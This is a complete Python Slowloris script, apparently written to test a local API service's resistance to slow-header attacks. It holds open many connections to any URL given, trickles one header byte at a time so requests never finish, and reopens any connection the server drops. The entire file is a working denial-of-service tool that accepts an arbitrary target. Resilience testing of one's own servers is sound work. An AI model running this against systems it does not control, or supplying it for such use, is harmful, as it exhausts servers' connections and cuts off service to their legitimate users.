#!/usr/bin/env python3
"""Slowloris from one client: COUNT connections to URL, each sending a
request head that never ends, one more header byte every PAUSE seconds;
a connection the server closes is opened again. Runs for SECONDS, then
prints how many were open at the end and how many the server closed.

Usage: slowloris.py URL COUNT SECONDS [PAUSE]
"""
import socket
import sys
import time
from urllib.parse import urlparse


def open_one(host: str, port: int) -> socket.socket:
    s = socket.create_connection((host, port))
    s.setblocking(False)
    s.sendall(b"GET /v1/teams/nearest?lat=39.74&lon=-104.99 HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
    return s


def main() -> None:
    url, count, seconds = urlparse(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3])
    pause = float(sys.argv[4]) if len(sys.argv) > 4 else 5.0
    host, port = url.hostname, url.port
    sockets = [open_one(host, port) for _ in range(count)]
    closed = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(pause)
        for i, s in enumerate(sockets):
            try:
                if s.recv(1, socket.MSG_PEEK) == b"":
                    raise ConnectionError
            except BlockingIOError:
                pass
            except OSError:
                closed += 1
                s.close()
                sockets[i] = open_one(host, port)
                continue
            try:
                s.send(b"x")
            except OSError:
                closed += 1
                s.close()
                sockets[i] = open_one(host, port)
    print(f"slowloris: {len(sockets)} open at the end, {closed} closed by the server and reopened")


if __name__ == "__main__":
    main()
